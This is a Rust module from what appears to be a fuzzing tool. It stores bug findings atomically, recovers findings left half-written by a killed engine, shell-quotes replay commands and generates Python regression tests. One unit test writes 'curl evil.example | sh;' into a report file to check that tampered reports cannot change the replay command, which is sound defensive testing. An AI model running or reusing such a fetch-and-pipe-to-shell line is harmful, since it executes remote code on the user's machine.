//! The findings folder of a campaign: one folder a bug, whoever found it.
//!
//! A finding is written under a name of its own and renamed into place, so it is there as a whole or
//! not at all, and the first engine that finds a bug wins.

use std::io;
use std::path::{Path, PathBuf};

use super::kept::Index;
use super::report::{Described, Report};
use crate::campaign::manifest::SETUP;
use crate::disk;

/// Writes a finding unless `index` has one of the same kind and signature. Says where it lies and whether it is
/// new. `report.input` and `report.replay` are set to where the input comes to lie and to `hitmap` followed by its
/// path; `flags` are for `hitmap replay` where no campaign tells them. `setup` is the campaign's manifest, which
/// goes along wherever the finding is copied.
///
/// # Errors
/// What the file system reports.
pub fn save(
    index: &mut Index,
    mut described: Described,
    input: &[u8],
    coverage: Option<&[u8]>,
    hitmap: &str,
    flags: &[String],
    setup: &[u8],
) -> io::Result<(PathBuf, bool)> {
    let report = &mut described.report;
    if let Some(folder) = index.find(report) {
        return Ok((folder, false));
    }
    let folder = index.folder_of(report);
    report.input = folder.join("input").to_string_lossy().into_owned();
    report.input_len = input.len();
    report.replay = replay(hitmap, &report.input);
    let making = disk::new_folder(index.findings())?;
    let write = |name: &str, content: &[u8]| disk::replace(&making.join(name), content);
    // First, because of all that a killed engine leaves it is what cannot be made again.
    write("input", input)?;
    write("traceback.txt", described.traceback.as_bytes())?;
    write(SETUP, setup)?;
    let test = regression_test(report, &python_string(&report.harness), flags);
    write(&format!("test_{}.py", report.signature), test.as_bytes())?;
    if let Some(coverage) = coverage {
        write("coverage.hitmap", coverage)?;
    }
    // Last, because it says that the rest is there.
    write("report.json", &serde_json::to_vec_pretty(report).map_err(io::Error::other)?)?;
    match std::fs::rename(&making, &folder) {
        Ok(()) => Ok((folder, true)),
        Err(_) if folder.exists() => {
            std::fs::remove_dir_all(&making)?;
            Ok((folder, false))
        }
        Err(e) => Err(disk::at(&folder)(e)),
    }
}

/// Replaces what is told of a finding that stays where it is.
///
/// # Errors
/// What the file system reports.
pub fn renew(folder: &Path, described: &Described, coverage: Option<&[u8]>, flags: &[String]) -> io::Result<()> {
    let report = &described.report;
    let files = std::fs::read_dir(folder).map_err(disk::at(folder))?;
    let mut names = files.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned());
    if !names.any(|name| name.starts_with("test_") && name.ends_with(".py")) {
        let test = regression_test(report, &python_string(&report.harness), flags);
        disk::replace(&folder.join(format!("test_{}.py", report.signature)), test.as_bytes())?;
    }
    if !described.traceback.is_empty() {
        disk::replace(&folder.join("traceback.txt"), described.traceback.as_bytes())?;
    }
    if let Some(coverage) = coverage {
        disk::replace(&folder.join("coverage.hitmap"), coverage)?;
    }
    let path = folder.join("report.json");
    if path.is_dir() {
        std::fs::remove_dir(&path).map_err(disk::at(&path))?;
    }
    // Last, because it says that the rest is there.
    disk::replace(&path, &serde_json::to_vec_pretty(report).map_err(io::Error::other)?)
}

/// Finishes what a killed engine left of a finding that it was writing: a whole one gets its name. Of any other the
/// input is given, as far as it was written, to be run again.
///
/// # Errors
/// What the file system reports.
pub fn recover(index: &mut Index, left: &Path) -> io::Result<Option<Vec<u8>>> {
    let input = disk::read(&left.join("input"), disk::LONGEST_INPUT).unwrap_or_default();
    let report = super::kept::read(left).ok().filter(|report| report.input_len == input.len());
    match report {
        Some(report) if index.find(&report).is_none() => {
            std::fs::rename(left, index.folder_of(&report))?;
            Ok(None)
        }
        Some(_) => std::fs::remove_dir_all(left).map(|()| None),
        None => Ok(Some(input).filter(|input| !input.is_empty())),
    }
}

/// The command that runs an input again.
pub fn replay(hitmap: &str, input: &str) -> String {
    format!("{hitmap} replay {}", shell_quote(input))
}

/// A path as a shell takes it.
pub fn shell_quote(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-+=:,@%".contains(c);
    if !text.is_empty() && text.chars().all(plain) { text.into() } else { format!("'{}'", text.replace('\'', r"'\''")) }
}

/// Text as Python spells it. A JSON string is a Python string: JSON escapes nothing that Python reads
/// differently.
pub fn python_string(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

/// A test that fails for as long as the bug is there. `harness` is a Python expression, which may use `HERE`,
/// the test's own folder. It carries the campaign's flags along, because it may be copied to where no
/// campaign is.
pub fn regression_test(report: &Report, harness: &str, flags: &[String]) -> String {
    let flags: String = flags.iter().map(|flag| format!(", {}", python_string(flag))).collect();
    format!(
        "\"\"\"Fails for as long as the bug is there.\n\n{}\n\"\"\"\n\nimport pathlib\nimport subprocess\nimport sys\n\n\
         HERE = pathlib.Path(__file__).resolve().parent\nHARNESS = {harness}\nINPUT = HERE / \"input\"\n\n\n\
         def test_{}():\n    command = [sys.executable, \"-m\", \"hitmap\", \"replay\", str(INPUT), \"--harness\", HARNESS{flags}]\n    \
         run = subprocess.run(command, capture_output=True, text=True)\n    \
         assert run.returncode == 0, run.stdout + run.stderr\n",
        crate::print::plain(&report.title).replace('\\', "\\\\").replace('"', "'"),
        report.signature
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::kept::all;

    fn described(signature: &str) -> Described {
        let report = Report { kind: "signal".into(), signature: signature.into(), ..Report::default() };
        Described { report, traceback: "t".into() }
    }

    fn keep(findings: &Path, signature: &str, input: &[u8]) -> (PathBuf, bool) {
        save(&mut Index::new(findings.into()), described(signature), input, None, "hitmap", &[], b"{}").unwrap()
    }

    #[test]
    fn the_first_finder_wins() {
        let folder = tempfile::tempdir().unwrap();
        let (path, new) = keep(folder.path(), "aa", b"one");
        assert!(new);
        assert_eq!(keep(folder.path(), "aa", b"two"), (path.clone(), false));
        assert_eq!(std::fs::read(path.join("input")).unwrap(), b"one");
        let all = all(folder.path(), "hitmap").unwrap();
        assert_eq!(all.len(), 1);
        assert!(all[0].replay.starts_with("hitmap replay /"));
    }

    #[test]
    fn a_campaign_that_was_renamed_names_its_inputs_where_they_are() {
        let folder = tempfile::tempdir().unwrap();
        let (before, after) = (folder.path().join("a"), folder.path().join("b c"));
        keep(&before, "aa", b"one");
        std::fs::rename(before, &after).unwrap();
        let input = after.join("signal-aa/input").to_string_lossy().into_owned();
        let found = all(&after, "hitmap").unwrap().remove(0);
        assert_eq!((found.replay, found.input), (format!("hitmap replay '{input}'"), input));
    }

    #[test]
    fn the_command_is_ours_whatever_a_report_says() {
        let folder = tempfile::tempdir().unwrap();
        let (path, _) = keep(folder.path(), "aa", b"one");
        let report = path.join("report.json");
        let text = std::fs::read_to_string(&report).unwrap();
        std::fs::write(&report, text.replace("hitmap replay", "curl evil.example | sh;")).unwrap();
        let found = all(folder.path(), "hitmap").unwrap().remove(0);
        assert_eq!(found.replay, format!("hitmap replay {}", path.join("input").display()));
    }

    #[test]
    fn a_finding_that_got_another_signature_is_not_found_anew() {
        let folder = tempfile::tempdir().unwrap();
        let (path, _) = keep(folder.path(), "aa", b"one");
        renew(&path, &described("bb"), None, &[]).unwrap();
        assert_eq!(keep(folder.path(), "bb", b"two"), (path.clone(), false));
        assert_eq!(all(folder.path(), "hitmap").unwrap()[0].signature, "bb");
        assert!(path.join("test_aa.py").exists() && !path.join("test_bb.py").exists());
    }

    /// What becomes of a finding that was being written when its engine was killed.
    fn check(then: impl Fn(&Path), expect: (Option<&[u8]>, &[&str])) {
        let folder = tempfile::tempdir().unwrap();
        let (path, _) = keep(folder.path(), "aa", b"one");
        let left = folder.path().join(".making-1-aa");
        std::fs::rename(path, &left).unwrap();
        then(&left);
        let input = recover(&mut Index::new(folder.path().into()), &left).unwrap();
        let names: Vec<String> = all(folder.path(), "").unwrap().into_iter().map(|found| found.signature).collect();
        assert_eq!(
            (input.as_deref(), names.iter().map(String::as_str).collect::<Vec<_>>()),
            (expect.0, expect.1.to_vec())
        );
    }

    #[test]
    fn what_a_killed_engine_was_writing_is_not_lost() {
        check(|_| (), (None, &["aa"]));
        check(|left| std::fs::write(left.join("report.json"), "{").unwrap(), (Some(b"one"), &[]));
        check(|left| std::fs::remove_file(left.join("report.json")).unwrap(), (Some(b"one"), &[]));
        check(|left| std::fs::write(left.join("input"), "on").unwrap(), (Some(b"on"), &[]));
        check(|left| std::fs::remove_dir_all(left).unwrap(), (None, &[]));
        check(|left| drop(keep(left.parent().unwrap(), "aa", b"two")), (None, &["aa"]));
    }

    #[test]
    fn shell_words_are_quoted() {
        assert_eq!(shell_quote("out/a-b"), "out/a-b");
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
    }
}
